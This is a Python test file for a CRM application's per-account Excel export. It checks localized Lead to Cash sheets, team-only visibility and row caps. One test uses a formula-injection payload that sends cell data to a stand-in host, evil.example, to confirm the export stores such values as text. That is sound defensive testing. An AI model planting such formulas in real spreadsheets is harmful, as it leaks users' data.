"""The account workbook carries Lead to Cash (issue 10 §7): sheets 线索, 机会点, 风险, 合同 with the demo's
records, values as dates and numbers, headers in the reader's language; team-only opportunities (and their
risks and contracts) only for the account team and the project triangle; formula-like titles stay text."""
from __future__ import annotations

from datetime import date
from decimal import Decimal
from typing import Any

import pytest
from sqlalchemy import select

from models import Account

from .api_support import world  # noqa: F401  # `world` is a fixture
from .exports_support import sheet_rows, sheet_text, workbook

ZH = {"Accept-Language": "zh-CN"}
EN = {"Accept-Language": "en"}
BACKBONE = "云网融合骨干网升级 (cloud-network backbone)"  # the demo's team-only opportunity (account sut)
BACKBONE_RISK = "价格超出客户预算，需要商务方案"


@pytest.fixture
def demo(app: Any, runner: Any) -> dict[str, int]:
    result = runner.invoke(args=["kb", "demo"])
    assert result.exit_code == 0, result.output
    from kb.demo.data_accounts import ACCOUNTS

    names = {a["key"]: a["name"] for a in ACCOUNTS if a["key"] in ("sut", "bwa", "ecmc")}
    with app.app_context():
        from kb.db import session

        ids = {key: session.scalar(select(Account.id).where(Account.name == name)) for key, name in names.items()}
    return ids


def _login(client: Any, email: str) -> None:
    client.post("/logout")
    response = client.post("/login", data={"email": email, "password": "demo1234"})
    assert response.status_code == 302, email


def _dicts(rows: list[list[Any]]) -> list[dict[str, Any]]:
    return [dict(zip(rows[0], r)) for r in rows[1:]]


def test_the_account_team_gets_the_ltc_sheets_with_the_demo_records_in_chinese(client, demo):
    _login(client, "ar@demo.kb")  # 王芳: AR of the carriers group, so on 南方联合电信's team
    book = workbook(client.get(f"/accounts/{demo['sut']}/export.xlsx", headers=ZH))
    assert book.sheetnames[5:] == ["线索", "机会点", "风险", "合同", "导出说明"]
    [opp] = _dicts(sheet_rows(book, "机会点"))
    assert opp["机会点名称"] == BACKBONE and opp["阶段"] and opp["状态"]
    assert opp["金额"] == 52000000 and opp["币种"] == "CNY" and opp["赢率(%)"] == 45
    assert opp["山头项目"] == "是" and opp["项目灯"] == "黄灯" and opp["亮灯原因"] == "技术评分领先，但价格高出预算 8%"
    assert opp["项目铁三角"] == "AR ar@demo.kb; SR sr@demo.kb"
    assert opp["立项日期"].date() < date(2026, 12, 1)
    risks = _dicts(sheet_rows(book, "风险"))
    assert [(r["风险及遗留问题"], r["机会点"], r["负责人"]) for r in risks] == [(BACKBONE_RISK, BACKBONE, "ar@demo.kb")]
    assert isinstance(risks[0]["到期日"].date(), date)
    about = dict(sheet_rows(book, "导出说明")[1:])
    assert all(title in about["工作表"] for title in ("线索", "机会点", "风险", "合同"))
    assert "里程碑" in about["线索到回款工作表"]


def test_contracts_one_row_per_milestone_and_leads_in_english(client, demo):
    _login(client, "maxiaoyu@demo.kb")  # AR of 北汽制造's group
    book = workbook(client.get(f"/accounts/{demo['bwa']}/export.xlsx", headers=EN))
    assert book.sheetnames[5:] == ["leads", "opportunities", "risks", "contracts", "About this export"]
    contracts = _dicts(sheet_rows(book, "contracts"))
    assert len(contracts) == 6
    assert {(c["number"], c["contract_amount"], c["currency"]) for c in contracts} == {("HT-2026-0715", 15800000,
                                                                                        "CNY")}
    first = contracts[0]
    assert first["milestone"] == "预付款 30% (advance payment)" and first["milestone_kind"] == "Payment"
    assert first["planned_amount"] == 4740000 and first["actual_amount"] == 4740000
    assert isinstance(first["planned_on"].date(), date) and isinstance(first["signed_on"].date(), date)
    assert contracts[-1]["actual_on"] is None and contracts[-1]["planned_amount"] == 1580000
    [lead] = _dicts(sheet_rows(book, "leads"))
    assert lead["title"] == "充电桩运营平台" and lead["status"] == "Dropped" and lead["estimated_amount"] == 3000000
    assert lead["drop_reason"] == "客户将充电业务划入合资公司，不再自建平台" and lead["budget_confirmed"] == "no"
    [opp] = _dicts(sheet_rows(book, "opportunities"))
    assert opp["name"] == "工厂私有云 (factory private cloud)" and opp["status"] == "Won"
    assert opp["key_project"] == "no" and opp["light"] is None and opp["win_probability_percent"] == 100


@pytest.mark.parametrize("email", ["viewer@demo.kb", "maxiaoyu@demo.kb"])
def test_a_viewer_and_another_teams_member_never_get_the_team_only_opportunity(client, demo, email):
    _login(client, email)
    book = workbook(client.get(f"/accounts/{demo['sut']}/export.xlsx", headers=ZH))
    text = sheet_text(book)
    assert BACKBONE not in text and BACKBONE_RISK not in text and "技术评分领先" not in text
    assert sheet_rows(book, "机会点") == [sheet_rows(book, "机会点")[0]]  # the header only
    assert len(sheet_rows(book, "风险")) == 1
    assert "机会点名称" in sheet_rows(book, "机会点")[0]


def test_an_org_visible_opportunity_is_read_by_a_viewer(client, demo):
    _login(client, "viewer@demo.kb")
    book = workbook(client.get(f"/accounts/{demo['ecmc']}/export.xlsx", headers=EN))
    names = [o["name"] for o in _dicts(sheet_rows(book, "opportunities"))]
    assert "5G 专网二期 (5G private network phase II)" in names
    risks = {r["description"] for r in _dicts(sheet_rows(book, "risks"))}
    assert "第二批园区机房改造进度滞后，可能影响交付窗口" in risks


def test_team_only_contracts_follow_their_opportunity_and_formulas_stay_text(app, client, world, login_as):
    team = world.api(client, "seated")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    public = team.post("/opportunities", json={"account_id": world.account.id, "name": evil,
                                               "amount": "1200.50", "currency": "USD"}).get_json()
    secret = team.post("/opportunities", json={"account_id": world.account.id, "name": "保密投标 secretbid",
                                               "visibility": "team"}).get_json()
    team.post("/leads", json={"account_id": world.account.id, "title": "+86 线索 @sum(A1)"})
    team.post(f"/opportunities/{public['id']}/risks", json={"description": "-2+3 风险"})
    with app.app_context():
        from kb.db import session
        from models import Contract

        session.add(Contract(opportunity_id=secret["id"], account_id=world.account.id, number="HT-SECRET-1",
                             signed_on=date(2026, 10, 1), amount=Decimal("99.00"), currency="CNY"))
        session.commit()
    login_as(world.seated)
    book = workbook(client.get(f"/accounts/{world.account.id}/export.xlsx", headers=EN))
    by_name = {o["name"]: o for o in _dicts(sheet_rows(book, "opportunities"))}
    assert by_name[evil]["amount"] == 1200.5 and by_name[evil]["currency"] == "USD"
    cell = next(c for row in book["opportunities"].iter_rows() for c in row if c.value == evil)
    assert cell.data_type == "s"
    lead_cell = next(c for row in book["leads"].iter_rows() for c in row if c.value == "+86 线索 @sum(A1)")
    assert lead_cell.data_type == "s"
    assert next(c for row in book["risks"].iter_rows() for c in row if c.value == "-2+3 风险").data_type == "s"
    [contract] = _dicts(sheet_rows(book, "contracts"))
    assert contract["number"] == "HT-SECRET-1" and contract["milestone"] is None
    for who in ("outsider", "viewer"):
        login_as(getattr(world, who))
        text = sheet_text(workbook(client.get(f"/accounts/{world.account.id}/export.xlsx", headers=EN)))
        assert "secretbid" not in text and "HT-SECRET-1" not in text and evil in text, who


def test_a_project_seat_holder_gets_the_team_only_opportunity_and_its_risk(app, client, world, login_as,
                                                                           create_user):
    helper = create_user(name="外援专家", email="helper@example.com")
    team = world.api(client, "seated")
    secret = team.post("/opportunities", json={"account_id": world.account.id, "name": "保密投标 secretbid",
                                               "visibility": "team", "seats": {}}).get_json()
    team.post(f"/opportunities/{secret['id']}/risks", json={"description": "报价泄露 leakrisk"})
    assert team.post(f"/opportunities/{secret['id']}/seats",
                     json={"user_id": helper.id, "role": "SR"}).status_code == 201
    login_as(helper)
    book = workbook(client.get(f"/accounts/{world.account.id}/export.xlsx", headers=EN))
    [opp] = _dicts(sheet_rows(book, "opportunities"))
    assert opp["name"] == "保密投标 secretbid" and opp["project_triangle"] == "SR helper@example.com"
    assert opp["visibility"] == "Account team only"
    assert [r["description"] for r in _dicts(sheet_rows(book, "risks"))] == ["报价泄露 leakrisk"]


def test_ltc_sheets_are_capped_like_the_others_and_say_so(client, world, login_as, monkeypatch):
    import kb.exports.account_book as book_module

    team = world.api(client, "seated")
    for name in ("甲项目", "乙项目"):
        team.post("/opportunities", json={"account_id": world.account.id, "name": name})
    monkeypatch.setattr(book_module, "SHEET_MAX_ROWS", 1)
    login_as(world.seated)
    book = workbook(client.get(f"/accounts/{world.account.id}/export.xlsx", headers=EN))
    assert len(sheet_rows(book, "opportunities")) == 2
    about = sheet_rows(book, "About this export")
    assert [r[1] for r in about if str(r[0]).startswith("Only the first 1 rows")] == ["opportunities"]


def test_the_account_list_export_has_no_ltc_sheets(client, world, login_as):
    world.api(client, "seated").post("/opportunities", json={"account_id": world.account.id, "name": "列表外项目"})
    login_as(world.admin)
    book = workbook(client.get("/accounts/export.xlsx", headers=EN))
    assert len(book.sheetnames) == 1 and "列表外项目" not in sheet_text(book)
    assert world.account.name in sheet_text(book)
